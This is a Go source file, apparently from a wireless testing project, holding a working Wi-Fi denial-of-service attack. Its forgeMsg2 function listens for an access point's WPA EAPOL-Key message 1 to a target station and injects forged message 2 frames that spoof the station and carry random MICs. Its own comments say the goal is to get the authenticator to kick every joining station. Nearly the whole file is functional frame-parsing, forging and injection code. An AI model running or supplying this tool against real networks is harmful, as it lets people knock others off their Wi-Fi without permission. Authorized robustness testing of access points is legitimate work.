package main

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"time"

	"github.com/kibitzbox/kibitzbox/internal/wpa"
	"golang.org/x/sys/unix"
)

// llcEAPOL is the LLC/SNAP header of an EAPOL payload (ethertype 0x888e).
var llcEAPOL = []byte{0xaa, 0xaa, 0x03, 0, 0, 0, 0x88, 0x8e}

// forgeMsg2 is the attacker in radio range of a joining station: it
// watches the air for the AP's EAPOL-Key message 1 to sta and answers at
// once, pretending to be sta, with message 2s that copy the replay counter
// but cannot carry a valid MIC (it lacks the passphrase). An authenticator
// that deauthenticates on a bad MIC lets it kick every joining station.
func forgeMsg2(iface string, bssid, sta net.HardwareAddr, d time.Duration, count int) error {
	in, err := newInjector(iface)
	if err != nil {
		return err
	}
	defer unix.Close(in.fd)
	if err := unix.Bind(in.fd, &in.addr); err != nil {
		return fmt.Errorf("bind to %s: %w", iface, err)
	}
	tv := unix.Timeval{Usec: 100000}
	if err := unix.SetsockoptTimeval(in.fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		return err
	}
	seen, forged := 0, 0
	buf := make([]byte, 4096)
	for end := time.Now().Add(d); time.Now().Before(end) && seen < count; {
		n, _, err := unix.Recvfrom(in.fd, buf, 0)
		if errors.Is(err, unix.EAGAIN) || errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return fmt.Errorf("receive: %w", err)
		}
		replay, ok := message1(buf[:n], bssid, sta)
		if !ok {
			continue
		}
		seen++
		for range 3 {
			if err := in.send(forgedMsg2(bssid, sta, replay)); err != nil {
				return err
			}
			forged++
		}
	}
	fmt.Printf("saw %d message 1s to %s, forged %d message 2s\n", seen, sta, forged)
	if seen == 0 {
		return fmt.Errorf("no EAPOL-Key message 1 to %s seen in %v", sta, d)
	}
	return nil
}

// message1 recognises the AP's message 1 to sta (radiotap + 802.11 data
// frame from the DS, in the clear) and returns its replay counter.
func message1(b []byte, bssid, sta net.HardwareAddr) (uint64, bool) {
	if len(b) < 4 {
		return 0, false
	}
	rt := int(binary.LittleEndian.Uint16(b[2:]))
	if rt > len(b) {
		return 0, false
	}
	f := b[rt:]
	if len(f) < 24 || (f[0]>>2)&3 != 2 || f[1]&3 != 2 || f[1]&0x40 != 0 {
		return 0, false // not a clear data frame from the DS
	}
	if !bytes.Equal(f[4:10], sta) || !bytes.Equal(f[10:16], bssid) {
		return 0, false
	}
	hdr := 24
	if f[0]&0x80 != 0 {
		hdr += 2 // QoS control
	}
	if len(f) < hdr+len(llcEAPOL) || !bytes.Equal(f[hdr:hdr+len(llcEAPOL)], llcEAPOL) {
		return 0, false
	}
	k, err := wpa.Parse(f[hdr+len(llcEAPOL):])
	if err != nil || k.Info&wpa.KeyInfoPairwise == 0 || k.Info&wpa.KeyInfoAck == 0 || k.Info&wpa.KeyInfoMIC != 0 {
		return 0, false
	}
	return k.ReplayCounter, true
}

// forgedMsg2 is a data frame to the DS from sta carrying a message 2 with
// a random SNonce and a MIC that is random bytes.
func forgedMsg2(bssid, sta net.HardwareAddr, replay uint64) []byte {
	k := wpa.KeyFrame{Info: wpa.KeyInfoVersion2 | wpa.KeyInfoPairwise | wpa.KeyInfoMIC, ReplayCounter: replay, Data: wpa.RSNE()}
	rand.Read(k.Nonce[:])
	rand.Read(k.MIC[:])
	var seq [2]byte
	rand.Read(seq[:])
	seq[0] &= 0xf0                // fragment number 0
	f := []byte{0x08, 0x01, 0, 0} // data, to DS
	f = append(f, bssid...)
	f = append(f, sta...)
	f = append(f, bssid...)
	f = append(f, seq[:]...)
	f = append(f, llcEAPOL...)
	return append(f, k.Marshal()...)
}
